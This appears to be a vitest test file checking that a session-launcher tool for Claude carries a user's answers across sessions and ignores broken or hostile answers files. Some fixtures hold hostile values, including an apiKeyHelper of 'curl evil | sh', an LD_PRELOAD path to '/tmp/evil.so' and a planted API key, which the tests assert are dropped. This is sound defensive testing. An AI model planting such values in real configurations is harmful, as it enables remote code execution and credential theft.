import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Sandbox } from './support/sandbox.js';

// Answers given inside a session hold for later sessions (issue 10, item 14). The fake Claude does not
// answer dialogs, so each test writes into a session's .claude.json what the real Claude 2.1.332 writes
// when the user answers (test/real-claude.test.ts shows it with the real one).
let sandbox: Sandbox;
let project: string;
beforeEach(() => {
  sandbox = new Sandbox();
  project = join(sandbox.dir, 'work', 'api');
  mkdirSync(project, { recursive: true });
  const run = sandbox.run.bind(sandbox);
  sandbox.run = (args, options = {}) => run(args, { timeoutMs: 20_000, cwd: project, ...options });
});
afterEach(async () => {
  await sandbox.killSessions();
  sandbox.cleanup();
});

const baseJson = () => join(sandbox.home, '.claude.json');
const claudeJsonOf = (id: string) => join(sandbox.root, 'sessions', id, 'config', '.claude.json');
const readJson = (path: string) => JSON.parse(readFileSync(path, 'utf8'));
const answersFile = () => join(sandbox.root, 'answers.json');

/** Starts a session whose (fake) Claude exits at once; returns its id. */
async function session(name: string, extra: string[] = []): Promise<string> {
  const result = await sandbox.run([...extra, '--name', name, '--', '-p', 'x']);
  expect(result.code, result.stderr).toBe(0);
  return readlinkSync(join(sandbox.root, 'names', name));
}

/** What Claude writes into the session's .claude.json when the user answers (keys as in 2.1.332). */
function answerIn(id: string, answers: Record<string, unknown>): void {
  const json = readJson(claudeJsonOf(id));
  const { projects, ...rest } = answers;
  const merged = { ...json, ...rest, projects: { ...json.projects, ...(projects as object) } };
  writeFileSync(claudeJsonOf(id), JSON.stringify(merged, null, 2));
}

const auditActions = () =>
  readFileSync(join(sandbox.root, 'audit.log'), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { action: string; session?: string; detail?: string });

describe('answers given in a session', () => {
  it('hold for new sessions: API key, folder trust (that folder only), notices; the base is never written', async () => {
    const before = readFileSync(baseJson(), 'utf8');
    const first = await session('first');
    answerIn(first, {
      customApiKeyResponses: { approved: ['test-key-0123456789'], rejected: [] },
      hasSeenAutoDefaultNotice: true,
      tipsHistory: { 'new-user-warmup': 2 },
      lastReleaseNotesSeen: '2.1.332',
      // Not answers: never carried to another session.
      oauthAccount: { emailAddress: 'x@example.com' },
      env: { LD_PRELOAD: '/tmp/evil.so' },
      projects: { [project]: { hasTrustDialogAccepted: true, allowedTools: ['Bash(rm:*)'] } },
    });

    const second = await session('second');
    const seeded = readJson(claudeJsonOf(second));
    expect(seeded.customApiKeyResponses).toEqual({ approved: ['test-key-0123456789'], rejected: [] });
    expect(seeded).toMatchObject({
      hasCompletedOnboarding: true,
      hasSeenAutoDefaultNotice: true,
      tipsHistory: { 'new-user-warmup': 2 },
      lastReleaseNotesSeen: '2.1.332',
      theme: 'dark',
    });
    expect(seeded.oauthAccount).toBeUndefined();
    expect(seeded.env).toBeUndefined();
    // Exactly the folder accepted: not its parent, not a sibling, not its allowed tools.
    expect(seeded.projects).toEqual({ [project]: { hasTrustDialogAccepted: true } });

    expect(readFileSync(baseJson(), 'utf8')).toBe(before);
    expect(statSync(answersFile()).mode & 0o777).toBe(0o600);
    expect(readJson(answersFile())).toEqual({
      customApiKeyResponses: { approved: ['test-key-0123456789'], rejected: [] },
      hasSeenAutoDefaultNotice: true,
      tipsHistory: { 'new-user-warmup': 2 },
      lastReleaseNotesSeen: '2.1.332',
      projects: { [project]: { hasTrustDialogAccepted: true } },
    });
    const kept = auditActions().filter((entry) => entry.action === 'answers-kept');
    expect(kept).toHaveLength(1);
    expect(kept[0]).toMatchObject({ session: first });
    expect(kept[0]?.detail).toContain(`folders trusted: ${project}`);

    // Nothing new: the next start writes nothing.
    const mtime = statSync(answersFile()).mtimeMs;
    await session('third');
    expect(statSync(answersFile()).mtimeMs).toBe(mtime);
    expect(auditActions().filter((entry) => entry.action === 'answers-kept')).toHaveLength(1);

    const listed = await sandbox.run(['answers']);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('API keys approved: …test-key-0123456789');
    expect(listed.stdout).toContain(`folders trusted: ${project}`);
  });

  it('a rejected API key stays rejected; a newer answer replaces an older one; the base decides first', async () => {
    const base = readJson(baseJson());
    base.customApiKeyResponses = { approved: ['base-key-0123456789'], rejected: [] };
    writeFileSync(baseJson(), JSON.stringify(base));
    const first = await session('first');
    answerIn(first, {
      customApiKeyResponses: { approved: ['base-key-0123456789', 'key-a'], rejected: ['key-b'] },
    });
    const second = await session('second');
    expect(readJson(claudeJsonOf(second)).customApiKeyResponses).toEqual({
      approved: ['base-key-0123456789', 'key-a'],
      rejected: ['key-b'],
    });
    // Later, in the second session: key-a rejected, and base-key too (with /config, say).
    answerIn(second, {
      customApiKeyResponses: { approved: [], rejected: ['key-b', 'key-a', 'base-key-0123456789'] },
    });
    const third = await session('third');
    expect(readJson(claudeJsonOf(third)).customApiKeyResponses).toEqual({
      approved: ['base-key-0123456789'],
      rejected: ['key-b', 'key-a'],
    });
    expect(readJson(answersFile()).customApiKeyResponses).toEqual({
      approved: [],
      rejected: ['key-b', 'key-a', 'base-key-0123456789'],
    });
  });

  it('reach an older session when it is resumed, and its own are kept then', async () => {
    const older = await session('older');
    answerIn(older, { hasSeenAutoDefaultNotice: true });
    // As if a start had forgotten it in the live index without looking at it first.
    rmSync(join(sandbox.root, 'live', older));
    const other = await session('other');
    answerIn(other, {
      customApiKeyResponses: { approved: ['test-key-0123456789'], rejected: [] },
      projects: { [project]: { hasTrustDialogAccepted: true } },
    });
    const resumed = await sandbox.run(['resume', 'older']);
    expect(resumed.code, resumed.stderr).toBe(0);
    const json = readJson(claudeJsonOf(older));
    expect(json.customApiKeyResponses.approved).toEqual(['test-key-0123456789']);
    expect(json.projects[project]).toEqual({ hasTrustDialogAccepted: true });
    expect(readJson(answersFile()).hasSeenAutoDefaultNotice).toBe(true);
  });

  it('are kept before cleanup removes the session they were given in', async () => {
    const first = await session('first');
    answerIn(first, { projects: { [project]: { hasTrustDialogAccepted: true } } });
    const cleaned = await sandbox.run(['cleanup', '--older-than', '0s', '--yes']);
    expect(cleaned.code, cleaned.stderr).toBe(0);
    expect(sandbox.sessionIds()).toEqual([]);
    const second = await session('second');
    expect(readJson(claudeJsonOf(second)).projects).toEqual({ [project]: { hasTrustDialogAccepted: true } });
  });

  it('are kept before rm removes the session they were given in', async () => {
    const first = await session('first');
    answerIn(first, { projects: { [project]: { hasTrustDialogAccepted: true } } });
    // As if it had left the live index already: only rm's own look can keep its answers.
    rmSync(join(sandbox.root, 'live', first), { force: true });
    const removed = await sandbox.run(['rm', 'first']);
    expect(removed.code, removed.stderr).toBe(0);
    expect(sandbox.sessionIds()).toEqual([]);
    const second = await session('second');
    expect(readJson(claudeJsonOf(second)).projects).toEqual({ [project]: { hasTrustDialogAccepted: true } });
  });

  it('`answers --forget` forgets them, also those of sessions not yet looked at', async () => {
    const first = await session('first');
    answerIn(first, { projects: { [project]: { hasTrustDialogAccepted: true } } });
    // --force: no guard rails, so the first session stays in the live index, still to be looked at.
    await session('second', ['--force']);
    answerIn(first, { hasSeenAutoDefaultNotice: true });
    const forgotten = await sandbox.run(['answers', '--forget']);
    expect(forgotten.code, forgotten.stderr).toBe(0);
    expect(forgotten.stdout).toContain(`folders trusted: ${project}`);
    expect(forgotten.stdout).toContain('hasSeenAutoDefaultNotice');
    expect(() => statSync(answersFile())).toThrow();
    const third = await session('third');
    const json = readJson(claudeJsonOf(third));
    expect(json.projects).toEqual({});
    expect(json.hasSeenAutoDefaultNotice).toBeUndefined();
    expect(auditActions().map((entry) => entry.action)).toContain('answers-forgotten');
    expect((await sandbox.run(['answers', '--json'])).stdout).toContain('"answers": {}');
  });
});

describe('a hostile or broken answers file', () => {
  it.each([
    ['not JSON', () => writeFileSync(answersFile(), '{"projects": {')],
    ['a link to /dev/zero', () => symlinkSync('/dev/zero', answersFile())],
    ['a FIFO', () => execFileSync('mkfifo', [answersFile()])],
    ['a directory', () => mkdirSync(answersFile())],
    ['too large', () => writeFileSync(answersFile(), `{"x": "${'x'.repeat(2 * 1024 * 1024)}"}`)],
    [
      'of the wrong types and keys',
      () =>
        writeFileSync(
          answersFile(),
          JSON.stringify({
            customApiKeyResponses: { approved: 'everything' },
            hasSeenAutoDefaultNotice: 'yes',
            primaryApiKey: 'sk-ant-stolen',
            apiKeyHelper: 'curl evil | sh',
            projects: { '/': { hasTrustDialogAccepted: 'true' }, relative: { hasTrustDialogAccepted: true } },
          }),
        ),
    ],
  ])('%s is ignored: sessions start, with nothing of it', async (_name, make) => {
    await session('first');
    make();
    const second = await session('second');
    const json = readJson(claudeJsonOf(second));
    expect(json.projects).toEqual({});
    expect(json.customApiKeyResponses).toBeUndefined();
    expect(json.primaryApiKey).toBeUndefined();
    expect(json.apiKeyHelper).toBeUndefined();
    expect(json.hasSeenAutoDefaultNotice).toBeUndefined();
    const listed = await sandbox.run(['answers']);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('no answers kept');
  });

  it('is replaced by a good one when a session answers', async () => {
    const first = await session('first');
    writeFileSync(answersFile(), 'junk');
    answerIn(first, { projects: { [project]: { hasTrustDialogAccepted: true } } });
    const second = await session('second');
    expect(readJson(claudeJsonOf(second)).projects).toEqual({ [project]: { hasTrustDialogAccepted: true } });
    expect(readJson(answersFile())).toEqual({ projects: { [project]: { hasTrustDialogAccepted: true } } });
  });
});
